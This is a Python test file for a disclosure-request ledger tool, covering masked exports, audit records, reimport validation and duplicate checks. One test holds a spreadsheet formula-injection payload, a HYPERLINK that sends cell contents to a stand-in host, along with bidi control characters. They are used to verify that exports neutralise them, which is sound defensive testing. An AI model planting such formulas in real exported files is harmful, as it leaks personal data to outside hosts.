"""The 台账: export, masking, and importing a past ledger all-or-nothing."""

from __future__ import annotations

import csv
import datetime as dt
import json

import openpyxl
import pytest

from core import demo
from core.organisation import users
from core.requests import ledger
from core.requests import service as requests
from core.requests.intake import Intake
from core.requests.lifecycle import Params
from core.store import db as core_db
from core.store.audit import verify
from core.store.models import Request, SystemEvent
from tests.conftest import _reset_postgres, open_training

D = dt.date
TODAY = D(2025, 12, 31)


@pytest.fixture
def filled(db, monkeypatch):
    demo.fill()
    clerk, leader = users.get("zhaomin"), users.get("sunhong")
    monkeypatch.setenv("GONGKAI_TODAY", TODAY.isoformat())
    one = requests.create(Intake(agency="YXSZFB", received=D(2025, 9, 29), channel="网络",
                                          applicant_type="自然人", applicant_name="张三",
                                          applicant_id="11010519491231002X", content="政务云运维经费预算"),
                          clerk, TODAY)
    for action, who, params in (("accept", clerk, dict(date=D(2025, 9, 30))),
                                ("extend", leader, dict(date=D(2025, 10, 20), reason="需调档")),
                                ("decide", clerk, dict(date=D(2025, 11, 19), outcome="不予公开", reason_code=6, reason="属于讨论记录")),
                                ("reply", clerk, dict(date=D(2025, 11, 20)))):
        requests.act(one.id, action, Params(**params), who, TODAY)
    two = requests.create(Intake(agency="YXSZFB", received=D(2025, 11, 3), channel="当面",
                                          applicant_type="商业企业", applicant_name="玉溪红塔建材有限公司",
                                          content="建设用地规划条件"), clerk, TODAY)
    requests.act(two.id, "accept", Params(date=D(2025, 11, 3)), clerk, TODAY)
    return one, two


def read_csv(path):
    with path.open(encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def test_export_masks_applicants_unless_asked_and_records_a_personal_export(filled, cli, tmp_path):
    masked = tmp_path / "masked.csv"
    assert cli("export", "ledger", "--year", "2025", "--format", "csv", "--out", str(masked))[0] == 0
    rows = read_csv(masked)
    assert [(r["number"], r["applicant_name"], r["applicant_id"]) for r in rows] == [
        ("YXSZFB-2025-0001", "张*", "1101**********002X"), ("YXSZFB-2025-0002", "玉溪********", "")]
    assert rows[0] == {**rows[0], "received": "2025-09-29", "accepted": "2025-09-30", "due": "2025-11-18",
                            "extension_days": "15", "decided": "2025-11-19", "replied": "2025-11-20",
                            "outcome": "不予公开", "reason": "6", "reason_text": "属于四类过程性信息",
                            "overdue": "是"}
    assert (rows[1]["due"], rows[1]["overdue"]) == ("2025-11-24", "是")  # open and past due on 12-31
    exports = SystemEvent.select().where(SystemEvent.action == "export_personal_data")
    assert exports.count() == 0

    full = tmp_path / "full.xlsx"
    code, out, _ = cli("export", "ledger", "--year", "2025", "--out", str(full), "--with-personal-data", "--json")
    assert json.loads(out) == {"year": 2025, "format": "xlsx", "out": str(full), "rows": 2, "personal_data": True}
    sheet = openpyxl.load_workbook(full).active
    assert [c.value for c in sheet[1]][:6] == ["编号", "机关", "收到日期", "申请方式", "申请人类型", "申请人"]
    assert sheet["F2"].value == "张三" and sheet["G2"].value == "11010519491231002X"
    event = exports.get()
    assert (event.actor, event.action) == ("admin", "export_personal_data")
    assert json.loads(event.data)["rows"] == 2
    assert verify().ok


def test_a_ledger_exported_and_reimported_round_trips(filled, cli, tmp_path, db_url, monkeypatch):
    exported = tmp_path / "ledger.csv"
    cli("export", "ledger", "--year", "2025", "--format", "csv", "--out", str(exported), "--with-personal-data")
    assert Request.select().count() == 2
    # a fresh database: the ledger is all it gets
    core_db.close_database()
    if db_url.startswith("sqlite"):
        monkeypatch.setenv("GONGKAI_DB", f"sqlite:///{tmp_path / 'second.db'}")
        open_training()
    else:
        _reset_postgres(db_url)
        open_training(db_url)  # created by its owner; the commands below act as the administrator
    code, out, err = cli("request", "import", str(exported), "--json")
    assert (code, err) == (0, "")
    assert json.loads(out) == {"imported": 2, "numbers": ["YXSZFB-2025-0001", "YXSZFB-2025-0002"]}
    again = tmp_path / "again.csv"
    cli("export", "ledger", "--year", "2025", "--format", "csv", "--out", str(again), "--with-personal-data")
    assert read_csv(again) == read_csv(exported)
    assert cli("audit", "verify")[0] == 0


def test_a_csv_with_three_bad_rows_imports_nothing_and_names_all_three_lines(db, cli, tmp_path, monkeypatch):
    monkeypatch.setenv("GONGKAI_TODAY", TODAY.isoformat())
    source = tmp_path / "old.csv"
    source.write_text(
        "agency,received,applicant_type,applicant_name,channel,content,accepted,outcome,reason,decided\n"
        "YXSZFB,2024-03-01,自然人,李四,当面,2023年财政预算,2024-03-01,予以公开,,2024-03-15\n"
        "YXSZFB,2024-03-02,自然人,王五,信鸽,征地补偿方案,2024-03-02,予以公开,,2024-03-10\n"
        "YXSZFB,2024-03-05,商业企业,某公司,网络,规划许可,2024-03-05,不予公开,9,2024-03-20\n"
        "YXSZFB,2024-03-06,自然人,赵六,邮寄,监测报告,2024-03-06,无法提供,1,2024-03-20\n"
        "YXSZFB,2024-03-07,自然人,钱七,邮寄,学校招生范围,2024-03-08,予以公开,,2024-03-01\n",
        encoding="utf-8")
    code, out, err = cli("request", "import", str(source))
    assert code == 1
    assert err.splitlines() == [
        f"错误：{source} 第3行 字段 channel：申请方式应为 当面、邮寄、平常信函、网络、传真、电子邮件、口头/电话代填 之一",
        f"{source} 第4行 字段 reason_code：“不予公开”须选择理由编号 1–8：1.属于国家秘密；2.其他法律行政法规禁止公开；"
        "3.危及“三安全一稳定”；4.保护第三方合法权益；5.属于三类内部事务信息；6.属于四类过程性信息；7.属于行政执法案卷；8.属于行政查询事项",
        f"{source} 第6行 字段 decided：决定日期 2024-03-01 早于受理或收到日期",
    ]
    assert Request.select().count() == 0


def test_importing_the_same_ledger_twice_is_refused_as_duplicates(db, cli, tmp_path, monkeypatch):
    monkeypatch.setenv("GONGKAI_TODAY", TODAY.isoformat())
    source = tmp_path / "old.csv"
    source.write_text(
        "agency,received,applicant_type,applicant_name,channel,content,accepted,outcome,reason,decided\n"
        "YXSZFB,2024-03-01,自然人,李四,当面,2023年财政预算,2024-03-01,予以公开,,2024-03-15\n", encoding="utf-8")
    assert cli("request", "import", str(source))[0] == 0
    code, _, err = cli("request", "import", str(source))
    assert (code, err) == (1, f"错误：{source} 第2行 字段 content：与已有申请重复（同一机关、收到日期、申请人和内容）\n")
    view = requests.get("YXSZFB-2024-0001", TODAY)
    assert (view.state, view.outcome, view.deadline.state, view.deadline.overdue) == ("closed", "予以公开", "closed",
                                                                                      False)
    assert [e.action for e in view.events] == ["receive", "accept", "imported_decision"]


ATTACK = '=HYPERLINK("http://example.invalid/?"&B2&C2,"点击查看")'


def test_an_export_cannot_run_a_formula_or_carry_control_characters_and_still_round_trips(filled, cli, tmp_path):
    clerk = users.get("zhaomin")
    view = requests.create(Intake(agency="YXSZFB", received=D(2025, 11, 4), channel="当面", applicant_type="自然人",
                                  applicant_name=ATTACK, content="@SUM(1+1)监测报告"), clerk, TODAY)
    # Stored before intake refused invisible characters: the export must still not carry one.
    Request.update(content="@SUM(1+1)\u202e监测报告").where(Request.id == view.id).execute()
    full = tmp_path / "full.xlsx"
    assert cli("export", "ledger", "--year", "2025", "--out", str(full), "--with-personal-data")[0] == 0
    sheet = openpyxl.load_workbook(full).active
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "YXSZFB-2025-0003")
    assert row[5] == "'" + ATTACK and row[7] == "'@SUM(1+1)监测报告"
    assert all(c.data_type == "s" for c in sheet[4] if c.value is not None)
    assert oct(full.stat().st_mode & 0o777) == "0o600"  # personal data: the officer's eyes only
    exported = tmp_path / "ledger.csv"
    cli("export", "ledger", "--year", "2025", "--format", "csv", "--out", str(exported), "--with-personal-data")
    assert read_csv(exported)[2]["applicant_name"] == "'" + ATTACK
    assert "\u202e" not in exported.read_text(encoding="utf-8-sig")


def test_an_export_that_cannot_be_written_leaves_no_record_of_an_export(filled, cli, tmp_path):
    target = tmp_path / "missing" / "x.xlsx"
    code, _, err = cli("export", "ledger", "--year", "2025", "--out", str(target), "--with-personal-data")
    assert (code, err) == (1, f"错误：无法读写 {target}：文件夹不存在或不可创建\n")
    assert SystemEvent.select().where(SystemEvent.action == "export_personal_data").count() == 0


@pytest.mark.parametrize("cells, expected", [
    (["YXSZFB-2025-0001", 15, None, "申请内容"], ["YXSZFB-2025-0001", 15, None, "申请内容"]),
    (["=1+1", "a"], ["'=1+1", "a"]),
    (["a", 3, "-2", "b"], ["a", 3, "'-2", "b"]),
    (["a", "b", "c\u202ed"], ["a", "b", "cd"]),
    (["a", "第一行\n=第二行"], ["a", "第一行\n=第二行"]),  # only a cell's first character runs a formula
    (["a", "第一行\n\u2066=x"], ["a", "第一行\n=x"]),
    (["\t=x"], ["'\t=x"]),
])
def test_a_row_is_made_safe_cell_by_cell_whatever_its_scan_finds(cells, expected):
    assert ledger.safe_cells(cells) == expected
